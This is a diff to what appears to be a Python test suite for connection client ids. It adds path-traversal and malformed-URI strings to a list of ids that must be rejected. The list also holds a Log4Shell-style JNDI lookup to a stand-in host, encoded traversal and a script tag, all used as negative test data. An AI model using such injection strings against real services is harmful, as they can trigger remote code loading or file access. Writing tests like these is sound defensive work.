@@ -121,6 +121,12 @@ _BAD_IDS = (
     "",
     "*",
     "{x}",
+    "//",
+    "a//b",
+    "a/",
+    "a/../../b",
+    "%2F..%2F",
+    "spiffe:/acme/robot/7",
     "${jndi:ldap://evil.example/a}",
     "%7B%7D",
     "<script>",
@@ -144,10 +150,7 @@ fine_ids = cases(
     "odd-client-ids",
     "valid client_ids that look like SQL, paths or format strings",
     "opens each connection with that id",
-    {
-        one: (opening(one), "101")
-        for one in ("--", "a/../../b", "//", "=1+1", "%2F..%2F", "@@version", "1-1", "null", "%61" * 128)
-    },
+    {one: (opening(one), "101") for one in ("--", "a/.../b", "a://b", "=1+1", "@@version", "1-1", "null", "%61" * 128)},
     _ids_taken,
 )
 
